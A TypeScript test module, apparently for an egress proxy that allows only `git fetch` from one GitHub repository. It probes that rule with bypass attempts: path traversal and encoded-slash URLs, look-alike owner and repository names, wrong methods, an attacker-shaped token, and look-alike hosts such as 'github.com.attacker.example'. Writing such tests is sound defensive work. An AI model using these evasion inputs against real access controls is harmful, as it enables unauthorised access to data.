/** The one open door of GitHub in odd spellings: paths, names, hosts, methods and headers around `git fetch`. */
import { badPath, curl, notGranted, refs, type Group, type Place, type Probe } from '../probe.ts';

const path = ['403 github.path'] as const;
const other = ['403 github.repository'] as const;
const query = ['403 github.query'] as const;
/** Shaped like a token of the attacker's own, and nobody's. */
const token = 'ghp_attackerattackerattackerattacker0000';
const gitBody = { text: '0032want 0000000000000000000000000000000000000000\n0000' };
const uploadPack = 'content-type: application/x-git-upload-pack-request';

export const githubPaths: Group = {
  name: 'github-paths',
  about: 'the one open door of github.com, in odd spellings',
  probes: (place: Place): readonly Probe[] => {
    const get = (
      id: string,
      attack: string,
      url: string,
      expected: readonly string[],
      more: Partial<Probe> = {},
    ) => curl(id, attack, [url], expected, more);
    return [
      curl(
        'upload-pack-type',
        'upload-pack with another content type',
        ['-H', 'content-type: application/json', 'https://github.com/acme/split-bill.git/git-upload-pack'],
        ['403 github.content-type'],
        { body: gitBody },
      ),
      curl(
        'upload-pack-query',
        'upload-pack with a query',
        ['-H', uploadPack, `https://github.com/acme/split-bill.git/git-upload-pack?${place.marker}`],
        query,
        { body: gitBody },
      ),
      curl(
        'upload-pack-put',
        'PUT of a pack',
        ['-X', 'PUT', '-H', uploadPack, 'https://github.com/acme/split-bill.git/git-upload-pack'],
        ['403 github.method'],
        { body: gitBody },
      ),
      curl(
        'refs-post',
        'POST where git only reads',
        ['-H', uploadPack, `https://github.com${refs}`],
        ['403 github.method'],
        { body: gitBody },
      ),
      get(
        'path-dots',
        'up and down again: /acme/split-bill.git/../../attacker/loot',
        'https://github.com/acme/split-bill.git/../../attacker/loot.git/info/refs?service=git-upload-pack',
        [...badPath, ...other],
      ),
      get(
        'path-dots-back',
        'from the attacker’s repository down and up to the granted one',
        'https://github.com/attacker/../acme/split-bill.git/info/refs?service=git-upload-pack',
        badPath,
      ),
      get(
        'path-dots-escaped',
        'the same with escapes: %2e%2e',
        'https://github.com/acme/split-bill.git/%2e%2e/%2e%2e/attacker/loot.git/info/refs?service=git-upload-pack',
        [...badPath, ...other],
      ),
      get(
        'path-slash-escaped',
        'a slash as %2f',
        'https://github.com/acme%2fsplit-bill.git/info/refs?service=git-upload-pack',
        badPath,
      ),
      get(
        'path-slash-in-name',
        'the attacker’s repository behind an escaped slash',
        'https://github.com/acme/split-bill.git%2f..%2f..%2fattacker%2floot.git/info/refs?service=git-upload-pack',
        badPath,
      ),
      get(
        'path-double-escape',
        'an escape of an escape',
        'https://github.com/acme/%252e%252e/info/refs?service=git-upload-pack',
        path,
      ),
      get(
        'path-double-slash',
        'two slashes',
        'https://github.com//acme/split-bill.git/info/refs?service=git-upload-pack',
        path,
      ),
      get(
        'path-backslash',
        'a backslash',
        'https://github.com/attacker\\..\\acme/split-bill.git/info/refs?service=git-upload-pack',
        [...badPath, '400 url.characters'],
      ),
      get(
        'path-semicolon',
        'a parameter in the path',
        'https://github.com/acme/split-bill.git;x=1/info/refs?service=git-upload-pack',
        path,
      ),
      get(
        'path-nul',
        'a NUL in the name',
        'https://github.com/acme/split-bill.git%00/info/refs?service=git-upload-pack',
        path,
      ),
      get(
        'name-dot',
        'a dot at the end of the name',
        'https://github.com/acme/split-bill./info/refs?service=git-upload-pack',
        other,
      ),
      get(
        'name-git-git',
        'the suffix twice',
        'https://github.com/acme/split-bill.git.git/info/refs?service=git-upload-pack',
        other,
      ),
      get(
        'name-prefix',
        'a name that begins like the granted one',
        'https://github.com/acme/split-bill-loot/info/refs?service=git-upload-pack',
        other,
      ),
      get(
        'owner-prefix',
        'an owner whose name begins like the granted one',
        'https://github.com/acme-loot/split-bill/info/refs?service=git-upload-pack',
        other,
      ),
      get(
        'case',
        'other capitals: the same repository for GitHub, and for us',
        'https://github.com/ACME/Split-Bill.GIT/info/refs?service=git-upload-pack',
        ['200'],
        { reachesUpstream: true },
      ),
      curl(
        'own-authorization',
        'the attacker’s token with an allowed request: replaced outside',
        ['-H', `authorization: Basic ${btoa(`x:${token}`)}`, `https://github.com${refs}`],
        ['200'],
        { reachesUpstream: true },
      ),
      get(
        'userinfo',
        'the attacker’s token in the URL: replaced outside',
        `https://x-access-token:${token}@github.com${refs}`,
        ['200'],
        { reachesUpstream: true },
      ),
      get(
        'host-suffix',
        'github.com as the beginning of another host',
        `https://github.com.attacker.example/${place.marker}`,
        notGranted,
      ),
      get(
        'host-prefix',
        'a host that ends like github.com',
        `https://notgithub.com/${place.marker}`,
        notGranted,
      ),
      get('host-subdomain', 'a host below github.com', `https://www.github.com${refs}`, [
        ...notGranted,
        '403 host.reserved',
      ]),
      get(
        'host-lookalike',
        'github.com with a Cyrillic letter',
        `https://xn--gthub-n4a.com${refs}`,
        notGranted,
      ),
    ];
  },
};
